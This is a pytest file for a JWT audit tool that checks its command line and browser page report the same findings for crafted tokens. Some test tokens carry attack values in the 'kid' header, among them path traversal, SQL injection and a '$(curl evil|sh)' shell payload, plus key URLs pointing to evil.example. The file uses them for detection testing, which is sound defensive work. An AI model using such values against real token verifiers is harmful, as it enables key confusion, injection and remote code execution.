"""One policy for the command line and the page: the audit rules file and its two readers.

The rules (ids, severities, texts, limits, words, patterns) live in
``gatepass/cli/data/audit-rules.json``; the page reads a generated copy, ``audit-rules.js``, which
must be current. The logic that applies them is written in Python (``cli/keyless.py``) and in
JavaScript (``static/audit.js``), so one table of tokens runs through ``gatepass audit --json``
and through the page in headless Chromium, and every finding (id, severity, title, in order) must
be the same. Every keyless rule in the file is exercised by at least one case.
"""

from __future__ import annotations

import base64
import json
import re
from typing import Any

import pytest
from tools_browser import STATIC

from gatepass.cli.audit_rules import rules
from gatepass.cli.main import main
from gatepass.tools.rules_module import render

NOW = 1_800_000_000
GOOD = {"iss": "https://id.example", "aud": "api", "sub": "u1", "jti": "j1", "iat": NOW}
SIG = b"s" * 64


def _b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def token(header: Any, claims: Any, signature: bytes = SIG) -> str:
    """A token from JSON values, or from raw JSON text (to write duplicates or junk)."""
    parts = [h if isinstance(h, str) else json.dumps(h) for h in (header, claims)]
    return f"{_b64(parts[0].encode())}.{_b64(parts[1].encode())}.{_b64(signature)}"


ES = {"alg": "ES256", "typ": "at+jwt"}
GOOD_EXP = {**GOOD, "exp": NOW + 600}

EC_JWK = {
    "kty": "EC",
    "crv": "P-256",
    "x": "l8tFrhx-34tV3hRICRDY9zCkDlpBhF42UQUfWVAWBFs",
    "y": "9VE4jf_Ok_o64zbTTlcuNJajHmt6v9TDVrU0CdvGRDA",
}
DPOP = {"alg": "ES256", "typ": "dpop+jwt", "jwk": EC_JWK}
PROOF_CLAIMS = {"jti": "p1", "htm": "GET", "htu": "https://api.example/", "iat": NOW}

# (name, token, the rules it must trigger)
CASES: list[tuple[str, str, set[str]]] = [
    ("clean", token(ES, GOOD_EXP), set()),
    ("alg-none", token({"alg": "none", "typ": "JWT"}, GOOD_EXP, b""), {"alg-none", "typ-generic"}),
    ("alg-none-casing", token({"alg": "nOnE"}, GOOD_EXP, b""), {"alg-none", "typ-missing"}),
    ("alg-missing", token({"typ": "at+jwt"}, GOOD_EXP), {"alg-missing"}),
    ("alg-unknown", token({"alg": "HS1024"}, GOOD_EXP), {"alg-unknown"}),
    ("hmac", token({"alg": "HS256", "typ": "at+jwt"}, GOOD_EXP, b"h" * 32), {"hmac"}),
    ("signature-empty", token(ES, GOOD_EXP, b""), {"signature-empty"}),
    (
        "key-urls",
        token({**ES, "jku": "http://evil.example/k", "x5u": "https://evil.example/c"}, GOOD_EXP),
        {"header-jku", "header-x5u"},
    ),
    ("key-url-not-text", token({**ES, "jku": ["a", 1]}, GOOD_EXP), {"header-jku"}),
    (
        "embedded-keys",
        token({**ES, "jwk": {"kty": "oct"}, "x5c": ["MII"]}, GOOD_EXP),
        {"header-jwk", "header-x5c"},
    ),
    ("kid-type", token({**ES, "kid": 5}, GOOD_EXP), {"kid-type"}),
    ("kid-path", token({**ES, "kid": "../../dev/null"}, GOOD_EXP), {"kid-injection"}),
    ("kid-sql", token({**ES, "kid": "x' OR 1=1 --"}, GOOD_EXP), {"kid-injection"}),
    ("kid-shell", token({**ES, "kid": "$(curl evil|sh)"}, GOOD_EXP), {"kid-injection"}),
    ("kid-url", token({**ES, "kid": "https://evil.example/key"}, GOOD_EXP), {"kid-injection"}),
    ("kid-control", token({**ES, "kid": "a\u0000b\n"}, GOOD_EXP), {"kid-injection"}),
    ("kid-long", token({**ES, "kid": "k" * 200}, GOOD_EXP), {"kid-length"}),
    (
        "kid-thumbprint",
        token({**ES, "kid": "YR-m8ug1Es4S--opNDHppu3xK0ihXrxK5O6LJvCt0Ouk"}, GOOD_EXP),
        set(),
    ),
    ("crit", token({**ES, "crit": ["exp2"], "exp2": 1}, GOOD_EXP), {"crit"}),
    ("crit-malformed", token({**ES, "crit": []}, GOOD_EXP), {"crit"}),
    ("zip-b64", token({**ES, "zip": "DEF", "b64": False}, GOOD_EXP), {"header-zip", "header-b64"}),
    ("size", token(ES, {**GOOD_EXP, "roles": ["r" * 40] * 30}), {"size"}),
    ("size-high", token(ES, {**GOOD_EXP, "roles": ["r" * 40] * 200}), {"size"}),
    ("exp-missing", token(ES, GOOD), {"exp-missing"}),
    ("exp-type", token(ES, {**GOOD, "exp": "tomorrow"}), {"exp-type"}),
    ("exp-null", token(ES, {**GOOD, "exp": None}), {"exp-missing"}),
    (
        "expired",
        token(ES, {**GOOD, "iat": NOW - 3 * 3600, "exp": NOW - 3 * 3600 + 600}),
        {"expired"},
    ),
    ("expired-half", token(ES, {**GOOD, "iat": NOW - 400, "exp": NOW - 150}), {"expired"}),
    ("long-lifetime", token(ES, {**GOOD, "exp": NOW + 3600}), {"long-lifetime"}),
    ("very-long-lifetime", token(ES, {**GOOD, "exp": NOW + 2 * 86400}), {"long-lifetime"}),
    (
        "remaining-lifetime",
        token(ES, {**{k: v for k, v in GOOD.items() if k != "iat"}, "exp": NOW + 7200}),
        {"long-lifetime"},
    ),
    (
        "refresh-typ",
        token({"alg": "ES256", "typ": "refresh+jwt"}, {**GOOD, "exp": NOW + 86400 * 9}),
        set(),
    ),
    ("refresh-use", token(ES, {**GOOD, "exp": NOW + 86400 * 9, "token_use": "refresh"}), set()),
    ("iat-future", token(ES, {**GOOD, "iat": NOW + 120, "exp": NOW + 700}), {"iat-future"}),
    ("nbf-future", token(ES, {**GOOD_EXP, "nbf": NOW + 90}), {"not-yet-valid"}),
    (
        "missing-claims",
        token(ES, {"exp": NOW + 60}),
        {"iss-missing", "aud-missing", "sub-missing", "jti-missing"},
    ),
    (
        "credentials",
        token(
            ES,
            {
                **GOOD_EXP,
                "password": "hunter2",
                "api_key": "k",
                "clientSecret": "c",
                "refresh_token": "rt",
                "session_id": "s",
                "user": {"pwd": "x"},
                "has_password": True,
                "token_use": "access",
            },
        ),
        {"credential-in-claims"},
    ),
    (
        "personal",
        token(
            ES,
            {
                **GOOD_EXP,
                "email": "ann@example.com",
                "userEmail": "x",
                "phone_number": "1",
                "address": {"street": "Main St 1"},
                "zip": "12345",
                "gender": "f",
                "location": "Paris",
                "client_ip": "203.0.113.7",
                "given_name": "Ann",
                "birthdate": "1990-01-01",
                "email_verified": True,
                "nickname": "",
            },
        ),
        {"personal-data"},
    ),
    (
        "personal-values",
        token(
            ES,
            {
                **GOOD_EXP,
                "contacts": ["bob@example.org", "+44 20 7946 0958"],
                "note": "(020) 7946-0958",
                "version": "1.2.3.4",
            },
        ),
        {"personal-data"},
    ),
    (
        "duplicate-claims",
        token(ES, '{"sub": "a", "sub": "b", "exp": ' + str(NOW + 60) + "}"),
        {"not-canonical"},
    ),
    ("duplicate-header", token('{"alg": "ES256", "alg": "none"}', GOOD_EXP), {"not-canonical"}),
    (
        "deep-claims",
        token(ES, '{"exp": ' + str(NOW + 60) + ', "x": ' + "[" * 17 + "1" + "]" * 17 + "}"),
        {"not-canonical"},
    ),
    ("dpop-proof", token(DPOP, PROOF_CLAIMS), set()),
    ("dpop-proof-typ-case", token({**DPOP, "typ": "DPoP+JWT"}, PROOF_CLAIMS), set()),
    (
        "dpop-private-key",
        token({**DPOP, "jwk": {**EC_JWK, "d": "cHJpdmF0ZQ"}}, PROOF_CLAIMS),
        {"dpop-private-key"},
    ),
    (
        "dpop-secret-key",
        token({**DPOP, "alg": "HS256", "jwk": {"kty": "oct", "k": "c2VjcmV0"}}, PROOF_CLAIMS),
        {"dpop-private-key", "hmac"},
    ),
    ("dpop-no-jwk", token({"alg": "ES256", "typ": "dpop+jwt"}, PROOF_CLAIMS), {"dpop-jwk-missing"}),
    ("dpop-jwk-junk", token({**DPOP, "jwk": "EC"}, PROOF_CLAIMS), {"dpop-jwk-missing"}),
    (
        "dpop-jwk-incomplete",
        token({**DPOP, "jwk": {"kty": "EC", "crv": "P-256", "x": 1}}, PROOF_CLAIMS),
        {"dpop-jwk-missing"},
    ),
    ("dpop-claims", token(DPOP, {"htm": "GET", "exp": NOW - 5}), {"dpop-claims-missing"}),
    ("dpop-future", token(DPOP, {**PROOF_CLAIMS, "iat": NOW + 600}), {"iat-future"}),
    ("jwk-outside-a-proof", token({**ES, "jwk": EC_JWK}, GOOD_EXP), {"header-jwk"}),
    ("payload-array", token(ES, "[1, 2]"), {"malformed"}),
    ("payload-junk", token(ES, "nope"), {"malformed"}),
    (
        "payload-not-utf8",
        token(ES, GOOD).split(".")[0] + "." + _b64(b'{"a": "\xff"}') + "." + _b64(SIG),
        {"malformed"},
    ),
]


def test_the_pages_copy_of_the_rules_is_current() -> None:
    """The page cannot fetch the JSON (connect-src 'none'): it loads a generated copy."""
    assert (STATIC / "audit-rules.js").read_text(encoding="utf-8") == render(), (
        "tools/static/audit-rules.js is stale: run `make audit-rules`"
    )


def test_every_keyless_rule_is_in_the_table() -> None:
    keyless_ids = {i for i, rule in rules().findings.items() if rule["keyless"]}
    exercised = set().union(*(expected for _, _, expected in CASES))
    assert keyless_ids == exercised


def test_patterns_use_the_syntax_both_languages_share() -> None:
    data = rules().data
    patterns = [entry["pattern"] for entry in data["kid_patterns"]]
    patterns += [data["values"]["email"], data["values"]["phone"]]
    for pattern in patterns:
        for unshared in (r"\s", r"\S", r"\d", r"\D", "(?<", "(?P", r"\Z", r"\A"):
            assert unshared not in pattern, (unshared, pattern)
        # "$" differs (Python's also matches before a final newline); whole-value patterns are
        # anchored by the code instead. An escaped "\$" is a dollar sign, fine in both.
        assert not re.search(r"(?<!\\)\$", pattern), pattern


def cli_findings(capsys: pytest.CaptureFixture[str], value: str) -> list[list[str]]:
    argv = ["audit", value, "--json", "--no-crack", "--fail-on", "never", "--at", str(NOW)]
    assert main(argv) == 0
    found = json.loads(capsys.readouterr().out)["findings"]
    return [[f["id"], f["severity"], f["title"]] for f in found]


def _comparable(found: list[list[str]]) -> list[list[str]]:
    """Titles that quote a parser's own message are compared up to that message."""
    out = []
    for finding_id, severity, title in found:
        rule = rules().findings[finding_id]
        if rule.get("detail_from_parser"):
            title = re.split(r"\{\w+\}", rule["title"])[0] + "..."
        out.append([finding_id, severity, title])
    return out


@pytest.mark.browser
@pytest.mark.parametrize(("name", "value", "expected"), CASES, ids=[c[0] for c in CASES])
def test_command_line_and_page_find_the_same(
    tools: Any, capsys: pytest.CaptureFixture[str], name: str, value: str, expected: set[str]
) -> None:
    cli = cli_findings(capsys, value)
    page = tools.page.evaluate(
        """([token, now]) => GPAudit.audit(GPJose.parseToken(token), now)
            .map(f => [f.id, f.severity, f.title])""",
        [value, NOW],
    )
    assert _comparable(page) == _comparable(cli)
    assert expected <= {finding_id for finding_id, _, _ in cli}, name


def test_the_command_line_page_lists_every_rule() -> None:
    """docs/cli.md's audit table names exactly the rules in the file."""
    text = (STATIC.parents[3] / "docs" / "cli.md").read_text(encoding="utf-8")
    table = text[text.index("| id | severity | check |") :].split("\n\n", 1)[0]
    listed = set(
        re.findall(
            r"`([a-z0-9-]+)`", "\n".join(row.split("|")[1] for row in table.splitlines()[2:])
        )
    )
    assert listed == set(rules().findings)
